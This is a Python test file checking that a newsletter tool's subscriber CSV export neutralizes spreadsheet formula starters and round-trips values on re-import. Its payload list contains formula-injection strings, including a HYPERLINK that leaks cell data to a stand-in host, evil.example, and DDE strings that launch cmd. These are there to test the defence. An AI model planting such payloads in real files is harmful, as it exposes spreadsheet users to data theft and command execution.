"""`subscribers export` is safe to open in a spreadsheet, and re-imports to the same values."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine
from sqlalchemy.orm import Session, sessionmaker

from digest import store
from digest.models import SubscriberStatus
from digest.spreadsheet import neutralize, restore
from digest.subscribers import clean_name, export_csv, import_path, normalize_email

REGIONS = ["Europe", "Asia", "Americas"]
NOW = datetime(2026, 11, 27, 9, tzinfo=UTC)
ACTIVE = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def engine(tmp_path: Path) -> Iterator[Engine]:
    eng = store.open_engine(f"sqlite:///{tmp_path / 'digest.db'}")
    store.migrate(eng)
    yield eng
    eng.dispose()


@pytest.fixture
def sessions(engine: Engine) -> sessionmaker[Session]:
    return store.session_factory(engine)


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click for your prize")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=already quoted once",
        "''-twice",
    ],
)
def test_formula_starters_are_neutralized_and_restored(payload: str) -> None:
    safe = neutralize(payload)
    assert safe == "'" + payload and not safe.startswith(ACTIVE)
    assert restore(safe) == payload


@pytest.mark.parametrize("plain", ["", "Ada", "ada@example.org", "'quoted'", "'", "a=b", "Europe"])
def test_other_cells_pass_untouched(plain: str) -> None:
    assert neutralize(plain) == plain and restore(plain) == plain


@given(st.text())
def test_restore_undoes_neutralize_for_any_text(text: str) -> None:
    safe = neutralize(text)
    assert restore(safe) == text
    assert not safe.startswith(ACTIVE)


_LOCAL = st.tuples(
    st.sampled_from(["", "=", "+", "-", "'=", "''+", "'-", "'", "-'="]),
    st.text(alphabet="abz019_=+-'", min_size=1, max_size=8),
).map("".join)
_NAME = st.tuples(
    st.sampled_from(["", "=", "+", "-", "@", "\t=", "\r+", "'=", "'", "''@", "=🦊"]),
    st.text(alphabet=list("ab =+-@'\",;\t\r\n🦊𝔘&<>é"), max_size=30),
).map(lambda t: clean_name("".join(t)))
_REGIONS = st.none() | st.lists(st.sampled_from(REGIONS), min_size=1, unique=True).map(
    lambda rs: sorted(rs, key=REGIONS.index)
)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.filter_too_much],
)
@given(people=st.lists(st.tuples(_LOCAL, _NAME, _REGIONS), min_size=1, max_size=4))
def test_export_then_import_round_trips_nasty_values(
    tmp_path: Path,
    sessions: sessionmaker[Session],
    people: list[tuple[str, str, list[str] | None]],
) -> None:
    rows = []
    for i, (local, name, regions) in enumerate(people):
        email = f"{local}{i}@example.org"
        try:
            assume(normalize_email(email) == email.lower())
        except ValueError:
            assume(False)
        rows.append((email.lower(), name, regions))
    with sessions.begin() as session:
        store.delete_all(session)
    with sessions.begin() as session:
        store.add_subscribers(
            session,
            [
                {
                    "email": email,
                    "name": name,
                    "regions": regions,
                    "status": SubscriberStatus.ACTIVE,
                    "source": "test",
                    "hard_bounces": 0,
                    "created_at": NOW,
                    "updated_at": NOW,
                }
                for email, name, regions in rows
            ],
        )
    out = io.StringIO()
    with sessions() as session:
        assert export_csv(session, out) == len(rows)
    # What a spreadsheet would open: no cell starts a formula.
    cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
    assert not [c for c in cells if c.startswith(ACTIVE)]

    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    with sessions.begin() as session:
        store.delete_all(session)
    report = import_path(sessions, path, REGIONS, NOW)
    assert report.rejected == [] and report.added == len(rows)
    with sessions() as session:
        back = sorted((s.email, s.name, s.regions) for s in store.iter_subscribers(session))
    assert back == sorted(rows)
